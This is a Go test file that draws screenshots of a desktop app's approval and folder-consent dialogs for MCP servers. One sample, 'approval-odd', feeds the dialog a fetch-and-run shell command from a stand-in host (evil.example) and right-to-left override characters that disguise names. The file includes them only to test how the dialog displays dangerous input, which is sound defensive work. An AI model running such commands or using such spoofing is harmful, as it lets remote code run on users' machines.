package ask

import (
	"context"
	"errors"
	"fmt"
	"image/png"
	"maps"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"fyne.io/fyne/v2"
	"fyne.io/fyne/v2/canvas"
	"fyne.io/fyne/v2/container"
	"fyne.io/fyne/v2/test"

	"rootsmanager/app"
	"rootsmanager/app/root"
	"rootsmanager/app/ui/look"
	"rootsmanager/store"
)

// picture draws one question at one size in one theme.
func picture(t *testing.T, name string, mode look.Mode, size fyne.Size, open func(fyne.Window)) {
	t.Helper()
	a := test.NewTempApp(t)
	a.Settings().SetTheme(look.NewTheme(mode))
	w := test.NewTempWindow(t, container.NewStack(canvas.NewRectangle(look.Color(look.ColorBackground))))
	w.SetPadded(false)
	w.Resize(size)
	open(w)
	file := filepath.Join(os.Getenv("ASK_GALLERY"), fmt.Sprintf("%s-%s-%.0f.png", name, mode, size.Width))
	f, err := os.Create(file)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close() //nolint:errcheck // the encoder's error is the one that counts
	if err := png.Encode(f, w.Canvas().Capture()); err != nil {
		t.Fatal(err)
	}
}

// TestGallery draws every question into the folder ASK_GALLERY, to be looked
// at.
func TestGallery(t *testing.T) {
	if os.Getenv("ASK_GALLERY") == "" {
		t.Skip("set ASK_GALLERY to a folder to have the questions drawn there")
	}
	all := gallery()
	maps.Copy(all, formGallery())
	only := os.Getenv("ASK_ONLY")
	for name, open := range all {
		if !strings.Contains(name, only) {
			continue
		}
		for _, mode := range []look.Mode{look.Light, look.Dark} {
			for _, size := range []fyne.Size{{Width: 1280, Height: 800}, {Width: 900, Height: 600}} {
				picture(t, name, mode, size, open)
			}
		}
	}
}

func samplePrompt() app.Prompt {
	return app.Prompt{
		ServerName: "notes-api",
		Deadline:   time.Now().Add(42 * time.Second),
		Approval: &app.ApprovalQuestion{
			Source:      "Cursor (~/.cursor/mcp.json)",
			CommandLine: []string{"/usr/bin/npx", "-y", "@acme/notes-mcp@2.1.0", "--stdio", "--profile", "work"},
			Program:     "/usr/bin/npx (npm 11.19.1)",
			Dir:         "/home/user",
			Env:         []app.EnvLine{{Name: "NOTES_URL", Value: "https://notes.example"}, {Name: "NOTES_TOKEN", Secret: true}},
			Warnings:    []app.Warning{{Title: "npx downloads the program when it starts", Detail: "Approving this command does not pin what is downloaded."}},
		},
		Consent: &app.ConsentQuestion{
			CommandLine: []string{"/usr/bin/npx", "-y", "@acme/notes-mcp@2.1.0", "--stdio"},
			Folders: []app.ConsentFolder{
				{Root: "1", Label: "frontend", Short: "~/work/frontend", URI: "file:///home/user/work/frontend", Access: root.ReadWrite, Assigned: true},
				{Root: "2", Label: "backend", Short: "~/work/backend", Access: root.ReadOnly},
				{Root: "3", Label: ".config", Short: "~/.config", Access: root.ReadOnly, Warning: "It may hold SSH keys, cloud credentials, browser profiles and passwords."},
				{Root: "4", Label: "Backup drive", Short: "/media/usb/backup", Access: root.ReadOnly, Problem: "missing"},
			},
		},
	}
}

func gallery() map[string]func(fyne.Window) {
	ignore := func(app.PromptAnswer) {}
	return map[string]func(fyne.Window){
		"approval": func(w fyne.Window) { Approval(w, samplePrompt(), ignore) },
		"approval-odd": func(w fyne.Window) {
			p := samplePrompt()
			p.ServerName = "notes\u202eipa"
			p.Approval.Source = "added by you"
			p.Approval.CommandLine = []string{"/bin/sh", "-c", "curl https://evil.example/x.sh | sh", "", "two  spaces", "rtl \u202etxt.exe", "line\nbreak " + long(300)}
			p.Approval.Warnings = append(p.Approval.Warnings, app.Warning{Title: "It starts a shell", Detail: "A shell can run anything that stands in its arguments."})
			p.Approval.Changes = []app.FieldChange{{Field: "Command", Old: "npx -y @acme/notes-mcp@2.0.0", New: "npx -y @acme/notes-mcp@2.1.0"}, {Field: "Working folder", Old: "", New: "/home/user/work"}}
			Approval(w, p, ignore)
		},
		"approval-url": func(w fyne.Window) {
			p := samplePrompt()
			*p.Approval = app.ApprovalQuestion{
				Source: "added by you", URL: "https://mcp.example.com/v1/mcp?team=blue", Env: []app.EnvLine{{Name: "Authorization", Secret: true}},
				Warnings: []app.Warning{{Title: "This address is not encrypted", Detail: "Anybody on the way can read and change what is said."}},
			}
			Approval(w, p, ignore)
		},
		"consent": func(w fyne.Window) {
			c := newConsent(w, samplePrompt(), ignore, systemClock{})
			c.list.toggle(c.choice.folders[0])
			c.close()
			c = newConsent(w, samplePrompt(), ignore, systemClock{})
			c.list.toggle(c.choice.folders[0])
		},
		"consent-sure": func(w fyne.Window) {
			c := newConsent(w, samplePrompt(), ignore, systemClock{})
			c.list.toggle(c.choice.folders[1])
			c.list.toggle(c.choice.folders[2])
			w.Canvas().Focus(c.list)
		},
		"consent-300": func(w fyne.Window) {
			p := samplePrompt()
			for i := range 300 {
				p.Consent.Folders = append(p.Consent.Folders, app.ConsentFolder{Root: store.RootID(fmt.Sprint("x", i)), Label: fmt.Sprint("project-", i), Short: fmt.Sprint("~/work/clients/", i, "/project"), Access: root.ReadOnly})
			}
			c := newConsent(w, p, ignore, systemClock{})
			c.list.toggle(c.choice.folders[0])
			c.list.toggle(c.choice.folders[1])
		},
	}
}

func formGallery() map[string]func(fyne.Window) {
	submit := func(context.Context, app.ServerSpec) error {
		return errors.New("there is a server called \"notes\" already: choose another name")
	}
	return map[string]func(fyne.Window){
		"add": func(w fyne.Window) {
			newServerForm(w, AddServerOptions{Submit: submit, ChooseFolder: func(context.Context) (string, error) { return "", ErrNothing }, BuiltIn: []string{"/usr/bin/roots-manager", "probe"}}, systemClock{})
		},
		"add-typed": func(w fyne.Window) {
			f := newServerForm(w, AddServerOptions{Submit: submit, ChooseFolder: func(context.Context) (string, error) { return "", ErrNothing }, BuiltIn: []string{"/usr/bin/roots-manager", "probe"}}, systemClock{})
			f.command.SetText(`npx -y @acme/notes-mcp@2.1.0 --profile "Client work" --dir $HOME/notes --format 'json lines'`)
			f.env.add(store.Var{Name: "NOTES_URL", Value: "https://notes.example"})
			f.env.add(store.Var{Name: "NOTES_TOKEN", Secret: true})
			f.dir.SetText("work")
			f.env.add(store.Var{Name: "9bad", Value: "x"})
			f.submit()
		},
		"add-url": func(w fyne.Window) {
			f := newServerForm(w, AddServerOptions{Submit: submit}, systemClock{})
			f.choose(true)
			f.url.SetText("mcp.example.com")
			f.headers.add(store.Var{Name: "Authorization", Value: "Bearer x", Secret: true})
			f.submit()
		},
		"paths": func(w fyne.Window) {
			done := make(chan bool, 8)
			f := newPathForm(w, TypePathsOptions{Inspect: inspectSample(done)}, systemClock{}, 0)
			f.text.SetText("~/work/frontend\n/home/user/.ssh\n/\n~/work/backend\n/media/usb/backup\nrelative\n")
			<-done
			for f.add.Disabled() {
				runtime.Gosched()
			}
		},
		"sensitive": func(w fyne.Window) {
			newSensitive(w, []app.RootCheck{
				{Path: "/home/user", Warning: "It may hold SSH keys, cloud credentials, browser profiles and passwords."},
				{Path: "/home/user/.ssh", Warning: "SSH keys are kept here; whoever reads them can log in as you."},
				{Path: "/etc", Blocked: "It is part of the system. “Allow blocked places” in Settings makes it possible."},
			}, func([]app.RootCheck) {}, systemClock{})
		},
		"message": func(w fyne.Window) {
			Message(w, "The folder was not added", "“/media/usb/backup” does not answer: the drive may be unplugged.", "Plug the drive in and try again, or add another folder.")
		},
		"rename": func(w fyne.Window) {
			Rename(w, RenameOptions{Title: "Rename “frontend”", Label: "Name", Hint: "Servers are told this name together with the folder.", Value: "frontend", Answer: func(string) {}})
		},
	}
}

// inspectSample answers for a few places; the last one is told to done.
func inspectSample(done chan<- bool) func(context.Context, string) (app.RootCheck, error) {
	return func(_ context.Context, path string) (app.RootCheck, error) {
		switch path {
		case "/home/user/.ssh":
			return app.RootCheck{Warning: "SSH keys are kept here; whoever reads them can log in as you."}, nil
		case "/":
			return app.RootCheck{Blocked: "This is the top of the file system: everything on this computer would be shown."}, nil
		case "~/work/backend":
			return app.RootCheck{Duplicate: "backend"}, nil
		case "/media/usb/backup":
			return app.RootCheck{Problem: "It is missing."}, nil
		case "relative":
			done <- true
			return app.RootCheck{}, errors.New("write the whole path, from its beginning")
		}
		return app.RootCheck{Kind: root.Folder, NestedIn: "work"}, nil
	}
}

func long(n int) string {
	s := ""
	for i := range n {
		s += string(rune('a' + i%26))
	}
	return s
}
